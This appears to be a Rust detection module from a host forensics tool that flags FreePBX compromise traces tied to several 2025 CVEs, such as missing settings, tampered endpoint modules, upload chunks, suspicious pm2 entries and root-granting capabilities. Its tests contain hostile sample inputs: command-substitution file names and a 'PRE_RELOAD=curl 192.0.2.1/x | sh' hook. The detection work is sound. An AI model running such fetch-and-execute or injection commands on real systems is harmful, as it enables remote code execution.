//! Files of a `FreePBX` that are gone, changed in their rights, or should not be there, beside what signatures say.

use super::super::{HostContext, Report, find};
use super::rule::{Rule, attribute, is_enough};
use crate::model::{Attributes, Category, EvidencePath, FileKind, Severity, Subject};
use crate::parse::procfs::is_package_place;
use crate::sweep::Swept;
use std::collections::BTreeSet;

const NO_SETTINGS: Rule = Rule {
    id: "TR-PBX-0001",
    title: "FreePBX without /etc/freepbx.conf, which the attacks of August 2025 remove or change",
    category: Category::Tampering,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1485"],
    source: "Sangoma's indicators for CVE-2025-57819, 2025-08-28",
    remedy: "restore_file",
};

const ENDPOINT_SHUT: Rule = Rule {
    id: "TR-PBX-0002",
    title: "Endpoint module whose entry nobody may read: an intruder shuts out rivals",
    category: Category::Tampering,
    severity: Severity::High,
    confidence: 85,
    attack: &["T1222.002", "T1562"],
    source: "Fortinet, EncystPHP, 2026-01 (second hand)",
    remedy: "set_metadata",
};

const ENDPOINT_GONE: Rule = Rule {
    id: "TR-PBX-0003",
    title: "Endpoint module that was here and is gone",
    category: Category::Tampering,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1562"],
    source: "Fortinet, EncystPHP, 2026-01 (second hand): fwconsole ma delete endpoint",
    remedy: "",
};

const UPLOAD_PIECE: Rule = Rule {
    id: "TR-PBX-0004",
    title: "Piece of an upload of PHP into the web root, as CVE-2025-61678 leaves it",
    category: Category::Exploitation,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1190", "T1505.003"],
    source: "Metasploit pull request 20846 (CVE-2025-61678)",
    remedy: "quarantine_file",
};

const COMMAND_NAME: Rule = Rule {
    id: "TR-PBX-0005",
    title: "Name that is a shell command, as the exploitation of CVE-2025-64328 makes them",
    category: Category::Exploitation,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1190", "T1059.004"],
    source: "FreePBX filestore 17.0.2.39, testconnection.php: mkdir -p with the key; GHSA-vm9p-46mv-5xvw",
    remedy: "",
};

const OPEN_ADMIN: Rule = Rule {
    id: "TR-PBX-0006",
    title: "FreePBX that believes whatever name a request gives (AUTHTYPE)",
    category: Category::Vulnerable,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1190", "T1556"],
    source: "FreePBX framework 17.0.19.27, gui_auth.php; GHSA-9jvh-mv6x-w698 (CVE-2025-66039)",
    remedy: "",
};

const RELOAD_HOOK: Rule = Rule {
    id: "TR-PBX-0007",
    title: "Command that FreePBX runs with each reload",
    category: Category::Persistence,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1546"],
    source: "FreePBX framework 17.0.19.27: PRE_RELOAD and POST_RELOAD are handed to exec()",
    remedy: "",
};

const PM2: Rule = Rule {
    id: "TR-PBX-0008",
    title: "Program in pm2's list that is no module's",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 60,
    attack: &["T1543"],
    source: "FreePBX module pm2; practice of responders",
    remedy: "",
};

const CAPABILITY: Rule = Rule {
    id: "TR-PBX-0009",
    title: "Program with capabilities that lead to root, where none belongs",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1548.001"],
    source: "capabilities(7); practice of responders",
    remedy: "quarantine_file",
};

const LINGER: Rule = Rule {
    id: "TR-PBX-0010",
    title: "Service account whose services run without a login (linger)",
    category: Category::Persistence,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1543.002"],
    source: "loginctl(1): enable-linger; practice of responders",
    remedy: "quarantine_file",
};

pub(super) const RULES: &[Rule] = &[
    CAPABILITY,
    LINGER,
    NO_SETTINGS,
    ENDPOINT_SHUT,
    ENDPOINT_GONE,
    UPLOAD_PIECE,
    COMMAND_NAME,
    OPEN_ADMIN,
    RELOAD_HOOK,
    PM2,
];

/// What is remembered of the host's `FreePBX`.
#[derive(Default)]
pub(super) struct Seen {
    has_settings: bool,
    /// The folder of modules in which the framework lies.
    modules: BTreeSet<EvidencePath>,
    /// Folders of modules with an endpoint module.
    with_endpoint: BTreeSet<EvidencePath>,
    /// What the endpoint module leaves elsewhere.
    traces: BTreeSet<EvidencePath>,
}

pub(super) fn remember(file: &Swept<'_>, seen: &mut Seen) {
    let path = file.path.as_bytes();
    if path == b"/etc/freepbx.conf" {
        seen.has_settings = true;
    }
    let modules = |depth: usize| {
        let mut folder = file.path.clone();
        for _ in 0..depth {
            folder = folder.parent()?;
        }
        folder.as_bytes().ends_with(b"/admin/modules").then_some(folder)
    };
    match file.path.file_name() {
        b"module.xml" if path.ends_with(b"/framework/module.xml") => seen.modules.extend(modules(2)),
        b"module.xml" if path.ends_with(b"/endpoint/module.xml") => seen.with_endpoint.extend(modules(2)),
        b"endpoint" if path.ends_with(b"/admin/assets/endpoint") || path.starts_with(b"/tftpboot/") => {
            seen.traces.insert(file.path.clone());
        }
        name if name.starts_with(b"endpoint-") && find(path, b"/_cache/").is_some() && seen.traces.len() < 10 => {
            seen.traces.insert(file.path.clone());
        }
        _ => {}
    }
    if path.starts_with(b"/tftpboot/customfw/") && seen.traces.len() < 10 {
        seen.traces.insert(file.path.clone());
    }
}

/// Judges one object by its name and rights, and the files of settings by their content.
pub(super) fn inspect(file: &Swept<'_>, report: &mut Report) {
    let path = file.path.as_bytes();
    let name = file.path.file_name();
    if is_command(name) {
        report.findings.push(COMMAND_NAME.at_file(file, vec![attribute("name", name)]));
    }
    if file.meta.kind != FileKind::File {
        return;
    }
    capabilities(file, report);
    let services: [&[u8]; 4] = [b"asterisk", b"www-data", b"apache", b"nginx"];
    if path.strip_prefix(b"/var/lib/systemd/linger/").is_some_and(|account| services.contains(&account)) {
        report.findings.push(LINGER.at_file(file, vec![attribute("account", name)]));
    }
    if path.ends_with(b"/admin/modules/endpoint/ajax.php") && file.meta.mode.bits() == 0 {
        report.findings.push(ENDPOINT_SHUT.at_file(file, vec![attribute("mode", file.meta.mode.to_string())]));
    }
    if super::super::placement::is_web(file.path) && is_piece(name) {
        report.findings.push(UPLOAD_PIECE.at_file(file, vec![attribute("name", name)]));
    }
    let Some(content) = file.content else { return };
    if path == b"/etc/amportal.conf" {
        amportal(file, content, report);
    }
    if path.ends_with(b"/.pm2/dump.pm2") || path.ends_with(b"/.pm2/dump.pm2.bak") {
        pm2(file, content, report);
    }
}

/// Capabilities with which a program is as good as root's. Packages give some to their own programs, and none of these to an interpreter.
fn capabilities(file: &Swept<'_>, report: &mut Report) {
    const ROOTS: [&str; 9] = [
        "cap_setuid",
        "cap_setgid",
        "cap_dac_override",
        "cap_dac_read_search",
        "cap_chown",
        "cap_fowner",
        "cap_sys_admin",
        "cap_sys_ptrace",
        "cap_sys_module",
    ];
    let Some(held) = Attributes::of(file.meta).capabilities else { return };
    let roots: Vec<&str> =
        held.permitted.iter().map(String::as_str).filter(|capability| ROOTS.contains(capability)).collect();
    let name = file.path.file_name();
    let is_interpreter = [&b"python"[..], b"perl", b"php", b"ruby", b"node", b"bash", b"dash", b"vim", b"gdb", b"tar"]
        .iter()
        .any(|known| name.starts_with(known));
    if roots.is_empty() || (is_package_place(file.path.as_bytes()) && !is_interpreter) {
        return;
    }
    let rule = if is_interpreter { CAPABILITY.weighed(Severity::High, 85) } else { CAPABILITY };
    report.findings.push(rule.at_file(file, vec![attribute("capabilities", roots.join(", "))]));
}

/// `x.php0`, `x.php1` of two digits at most: pieces of an upload in chunks. `.php3` to `.php8` are extensions of PHP.
fn is_piece(name: &[u8]) -> bool {
    let lower = name.to_ascii_lowercase();
    let Some(at) = lower.windows(4).rposition(|part| part == b".php") else { return false };
    let digits = lower.get(at + 4..).unwrap_or_default();
    matches!(digits, [b'0' | b'1' | b'2' | b'9'] | [b'1'..=b'9', b'0'..=b'9'])
}

/// A command substitution in a name, which no program makes and no person types.
fn is_command(name: &[u8]) -> bool {
    let between = |open: &[u8], close: u8| {
        find(name, open).is_some_and(|at| name.get(at + open.len()..).is_some_and(|rest| rest.contains(&close)))
    };
    // A backtick alone stands in names of songs.
    (between(b"$(", b')') || between(b"`", b'`'))
        && name.iter().any(|b| b.is_ascii_whitespace() || matches!(b, b'$' | b'|' | b';' | b'{'))
}

/// `NAME=value` lines that the framework writes; the database has the last word.
fn amportal(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let before = report.findings.len();
    for (line, number) in content.split(|&b| b == b'\n').zip(1_u64..) {
        let text = line.trim_ascii();
        let Some(at) = text.iter().position(|&b| b == b'=') else { continue };
        if is_enough(file.path, before, report) {
            return;
        }
        let (name, value) = text.split_at_checked(at).unwrap_or((text, b""));
        let value = value.get(1..).unwrap_or_default().trim_ascii();
        let value = value.strip_prefix(b"\"").and_then(|rest| rest.strip_suffix(b"\"")).unwrap_or(value);
        match name.trim_ascii() {
            b"AUTHTYPE" if matches!(value.to_ascii_lowercase().as_slice(), b"webserver" | b"none") => {
                let evidence = vec![attribute("AUTHTYPE", value)];
                report.findings.push(OPEN_ADMIN.at_line(file.path, number, content, evidence));
            }
            hook @ (b"PRE_RELOAD" | b"POST_RELOAD") if !value.is_empty() => {
                let signs = super::super::shell::signs(value);
                let worst = signs.iter().filter_map(super::super::tampering::weigh).max();
                let (severity, confidence) = worst.unwrap_or((RELOAD_HOOK.severity, RELOAD_HOOK.confidence));
                let evidence = vec![attribute(&String::from_utf8_lossy(hook), value)];
                let rule = RELOAD_HOOK.weighed(severity, confidence);
                report.findings.push(rule.at_line(file.path, number, content, evidence));
            }
            _ => {}
        }
    }
}

/// What `pm2 resurrect` starts again: a JSON list of processes.
fn pm2(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let Ok(list) = serde_json::from_slice::<Vec<serde_json::Value>>(content) else { return };
    for process in list.iter().take(1000) {
        let get = |name: &str| process.get(name).and_then(serde_json::Value::as_str).unwrap_or_default();
        let (program, interpreter) = (get("pm_exec_path").as_bytes(), get("exec_interpreter"));
        let is_module =
            find(program, b"/admin/modules/").is_some() && !program.split(|&b| b == b'/').any(|p| p == b"..");
        if program.is_empty() || is_module {
            continue;
        }
        let is_odd = super::super::shell::is_temporary(program) || super::super::shell::is_hidden(program);
        let rule = if is_odd { PM2.weighed(Severity::High, 80) } else { PM2 };
        let evidence =
            vec![attribute("name", get("name")), attribute("program", program), attribute("interpreter", interpreter)];
        report.findings.push(rule.at_file(file, evidence));
    }
}

pub(super) fn conclude(seen: &Seen, host: &HostContext, report: &mut Report) {
    let Some(first) = seen.modules.first() else { return };
    if let Ok(path) = EvidencePath::new("/etc/freepbx.conf")
        && !seen.has_settings
        && host.shows_absence_of(&path)
    {
        let evidence = vec![attribute("framework", first.as_bytes())];
        report.findings.push(NO_SETTINGS.finding(Subject::File { path, sha256: None }, evidence));
    }
    for modules in seen.modules.difference(&seen.with_endpoint) {
        let folder = modules.join(b"endpoint");
        if let Some(trace) = seen.traces.first()
            && host.shows_absence_of(&folder)
        {
            let subject = Subject::Module { path: folder, name: "endpoint".into() };
            report.findings.push(ENDPOINT_GONE.finding(subject, vec![attribute("trace", trace.as_bytes())]));
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::testing::{Scene, ids};

    fn freepbx() -> Scene {
        let xml = "<module><rawname>framework</rawname><version>17.0.23</version></module>";
        Scene::new().file("/var/www/html/admin/modules/framework/module.xml", xml)
    }

    fn found(scene: &Scene) -> Vec<String> {
        ids(&scene.findings()).into_iter().filter(|id| id.starts_with("TR-PBX-")).collect()
    }

    #[test]
    fn settings_that_are_gone_are_told_where_their_absence_was_seen() {
        assert_eq!(found(&freepbx()), ["TR-PBX-0001 high"]);
        assert!(found(&freepbx().part()).is_empty());
        let whole = freepbx().file("/etc/freepbx.conf", include_str!("../../../../testdata/freepbx_conf/debian_12.in"));
        assert!(found(&whole).is_empty());
    }

    #[test]
    fn the_endpoint_module_that_is_shut_or_gone_is_told() {
        let shut = Scene::new().file_with("/var/www/html/admin/modules/endpoint/ajax.php", "<?php\n", 0, |_| {});
        assert_eq!(found(&shut), ["TR-PBX-0002 high"]);
        let gone = freepbx()
            .file("/etc/freepbx.conf", include_str!("../../../../testdata/freepbx_conf/debian_12.in"))
            .file("/var/www/html/admin/modules/_cache/endpoint-17.0.2.1.tgz.gpg", "x");
        assert_eq!(found(&gone), ["TR-PBX-0003 low"]);
        let there = gone.file("/var/www/html/admin/modules/endpoint/module.xml", "<module></module>");
        assert!(found(&there).is_empty());
    }

    #[test]
    fn names_that_exploits_leave_are_told() {
        assert_eq!(found(&Scene::new().file("/var/www/html/x/s.php0", "x")), ["TR-PBX-0004 high"]);
        assert!(found(&Scene::new().file("/var/www/html/x/s.php5", "x")).is_empty());
        assert_eq!(found(&Scene::new().directory("/tmp/$(id > x)")), ["TR-PBX-0005 high"]);
        assert_eq!(found(&Scene::new().directory("/tmp/`id;x`")), ["TR-PBX-0005 high"]);
        assert!(found(&Scene::new().directory("/srv/music/Rock `n` Roll")).len() <= 1);
        assert!(found(&Scene::new().file("/srv/a$(b", "")).is_empty());
    }

    #[test]
    fn capabilities_and_lingering_services_are_told() {
        // Layout 2, effective; the sets as `linux/capability.h` has them: cap_setuid is number 7, cap_net_raw 13.
        let with = |path: &str, set: u32| {
            let mut value = 0x0200_0001_u32.to_le_bytes().to_vec();
            for word in [set, 0, 0, 0] {
                value.extend(word.to_le_bytes());
            }
            found(&Scene::new().file_with(path, "x", 0o755, |meta| {
                meta.xattrs.insert("security.capability".into(), value.as_slice().into());
            }))
        };
        assert_eq!(with("/opt/x/run", 1 << 7), ["TR-PBX-0009 high"]);
        assert_eq!(with("/usr/bin/python3.11", 1 << 7), ["TR-PBX-0009 high"]);
        assert!(with("/usr/bin/ping", 1 << 13).is_empty());
        assert_eq!(found(&Scene::new().file("/var/lib/systemd/linger/asterisk", "")), ["TR-PBX-0010 low"]);
        assert!(found(&Scene::new().file("/var/lib/systemd/linger/anna", "")).is_empty());
    }

    #[test]
    fn settings_and_lists_are_judged() {
        let conf = |text: &str| found(&Scene::new().file("/etc/amportal.conf", text));
        assert_eq!(conf("AUTHTYPE=webserver\n"), ["TR-PBX-0006 high"]);
        assert!(conf("AUTHTYPE=usermanager\nPOST_RELOAD=\n").is_empty());
        assert_eq!(conf("POST_RELOAD=/usr/local/bin/notify\n"), ["TR-PBX-0007 low"]);
        assert_eq!(conf("PRE_RELOAD=curl 192.0.2.1/x | sh\n"), ["TR-PBX-0007 high"]);
        let list = |program: &str| {
            let text = format!("[{{\"name\":\"x\",\"pm_exec_path\":\"{program}\",\"exec_interpreter\":\"node\"}}]");
            found(&Scene::new().file("/home/asterisk/.pm2/dump.pm2", text))
        };
        assert_eq!(list("/dev/shm/.x/a.js"), ["TR-PBX-0008 high"]);
        assert_eq!(list("/opt/x/a.js"), ["TR-PBX-0008 medium"]);
        assert!(list("/var/www/html/admin/modules/ucp/node/index.js").is_empty());
    }
}
